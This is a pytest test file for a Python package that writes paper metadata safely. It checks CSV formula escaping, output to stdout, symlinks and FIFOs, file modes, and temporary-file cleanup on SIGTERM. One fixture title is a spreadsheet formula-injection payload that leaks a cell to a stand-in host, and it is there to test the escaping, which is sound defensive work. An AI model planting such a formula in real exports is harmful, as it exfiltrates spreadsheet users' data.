"""Safe files (#13): CSV that spreadsheets cannot run, outputs written where and as asked."""

from __future__ import annotations

import csv
import io
import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from papercorpus import Author, Corpus, Paper, load
from papercorpus.cli import main

HOSTILE = Paper(
    arxiv_id="2104.12369",
    title='=HYPERLINK("http://evil.example/?leak="&A1,"pdf")',
    authors=[Author(name="Ada\rLovelace"), Author(name="+Grace Hopper")],
    comments="-5 pages\n@everyone",
    abstract="\tTabbed.",
)


def test_csv_neutralises_formulas_and_keeps_one_row_per_paper(tmp_path: Path) -> None:
    """Formula-leading cells get a leading quote; a bare CR stays inside its quoted field."""
    path = tmp_path / "p.csv"
    Corpus([HOSTILE, Paper(arxiv_id="2104.11883")]).to_csv(path)
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["arxiv_id"] for row in rows] == ["2104.12369", "2104.11883"]
    assert rows[0]["title"] == "'" + HOSTILE.title  # type: ignore[operator]
    assert rows[0]["authors"] == "Ada\rLovelace; +Grace Hopper"  # only the cell's start counts
    assert rows[0]["comments"] == "'-5 pages\n@everyone"
    assert rows[0]["abstract"] == "Tabbed."  # squashed on the way in: no tab left to run


def test_csv_for_machines_keeps_cells_as_they_are(tmp_path: Path) -> None:
    """`escape_formulas=False` writes the values untouched (for programs, not spreadsheets)."""
    path = tmp_path / "p.csv"
    Corpus([HOSTILE]).to_csv(path, escape_formulas=False)
    with path.open(newline="", encoding="utf-8") as handle:
        (row,) = csv.DictReader(handle)
    assert row["title"] == HOSTILE.title
    assert row["authors"] == "Ada\rLovelace; +Grace Hopper"


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    status = main(list(argv))
    out, err = capsys.readouterr()
    return status, out, err


def test_dash_is_stdout_and_stdin(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`-o -` writes to stdout (no file named '-'); `parse -` reads stdin."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(b"A.\narXiv:2104.12369\n")))
    status, out, _ = run(capsys, "parse", "-", "-o", "-")
    assert status == 0
    assert '"arxiv_id":"2104.12369"' in out
    assert not (tmp_path / "-").exists()


def test_a_symlink_is_followed(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """`-o link` writes the file the link points to; the link stays a link."""
    target = tmp_path / "real.jsonl"
    target.write_text("old\n", encoding="utf-8")
    link = tmp_path / "link.jsonl"
    link.symlink_to(target)
    assert run(capsys, "sample", "--bare", "--format", "jsonl", "-o", str(link))[0] == 0
    assert link.is_symlink()
    assert len(target.read_text(encoding="utf-8").splitlines()) == 48


def test_a_fifo_is_written_in_place(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """A FIFO (or a device) is opened and written, never replaced by a regular file."""
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    reader = subprocess.Popen(
        [sys.executable, "-c", f"import sys; print(len(open({str(fifo)!r}).read().splitlines()))"],
        stdout=subprocess.PIPE,
        text=True,
    )
    assert run(capsys, "sample", "--bare", "--format", "jsonl", "-o", str(fifo))[0] == 0
    assert reader.communicate(timeout=30)[0].strip() == "48"
    assert stat.S_ISFIFO(fifo.stat().st_mode)


def test_modes_follow_the_umask_and_existing_files(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """A new file gets the mode the umask gives; an existing file keeps its own."""
    old = os.umask(0o022)
    try:
        new = tmp_path / "new.jsonl"
        assert run(capsys, "sample", "--bare", "-f", "jsonl", "-o", str(new))[0] == 0
        assert stat.S_IMODE(new.stat().st_mode) == 0o644
        kept = tmp_path / "kept.jsonl"
        kept.write_text("", encoding="utf-8")
        kept.chmod(0o640)
        assert run(capsys, "sample", "--bare", "-f", "jsonl", "-o", str(kept))[0] == 0
        assert stat.S_IMODE(kept.stat().st_mode) == 0o640
    finally:
        os.umask(old)


def test_a_missing_folder_is_a_write_error(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """`-o /missing-dir/x.jsonl` says it cannot write that path, in one line, exit 2."""
    target = tmp_path / "missing-dir" / "x.jsonl"
    status, _, err = run(capsys, "sample", "--bare", "-f", "jsonl", "-o", str(target))
    assert status == 2
    assert err == f"papercorpus: error: cannot write {target}: no such folder\n"
    assert list(tmp_path.iterdir()) == []


def test_a_folder_without_listings_warns(tmp_path: Path) -> None:
    """`load(folder)` with no *.txt in it says so instead of giving 0 papers without a word."""
    (tmp_path / "notes.md").write_text("# notes\n", encoding="utf-8")
    with pytest.warns(UserWarning, match=r"no \*\.txt listing in .*: nothing read from it"):
        corpus = load(tmp_path)
    assert len(corpus) == 0


def test_sigterm_leaves_no_temporary_file(tmp_path: Path) -> None:
    """A run stopped by SIGTERM mid-write removes its temporary file and keeps the old one."""
    target = tmp_path / "out.jsonl"
    target.write_text("old\n", encoding="utf-8")
    process = subprocess.Popen(
        [sys.executable, "-m", "papercorpus.cli", "parse", "-", "--no-dedupe", "-o", str(target)],
        stdin=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert process.stdin is not None
    process.stdin.write(b"An abstract.\narXiv:2104.12369\n" * 1000)
    process.stdin.flush()
    deadline = time.monotonic() + 30
    while not list(tmp_path.glob(".out.jsonl.*.tmp")) and time.monotonic() < deadline:
        time.sleep(0.05)  # until the run has its temporary file open, blocked on stdin
    assert list(tmp_path.glob(".out.jsonl.*.tmp"))
    process.send_signal(signal.SIGTERM)
    status = process.wait(timeout=30)
    process.stdin.close()
    assert process.stderr is not None
    process.stderr.close()
    assert status == 128 + signal.SIGTERM
    assert list(tmp_path.iterdir()) == [target]
    assert target.read_text(encoding="utf-8") == "old\n"


def test_a_signal_right_after_the_temporary_is_made_leaves_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """#27: the window between creating a temporary and registering it is closed.

    A SIGTERM handler runs between two bytecodes: here, as soon as the file exists (when
    its descriptor is closed), it removes what it knows of and the process stops.
    """
    from papercorpus import _files  # noqa: PLC0415

    real_close = os.close

    def close_then_terminated(fd: int) -> None:
        real_close(fd)
        _files.remove_temporary_files()  # what the SIGTERM handler does
        raise SystemExit(143)

    monkeypatch.setattr(os, "close", close_then_terminated)
    with pytest.raises(SystemExit):
        Corpus([Paper(arxiv_id="2104.12369")]).to_jsonl(tmp_path / "out.jsonl")
    monkeypatch.undo()
    assert list(tmp_path.iterdir()) == []
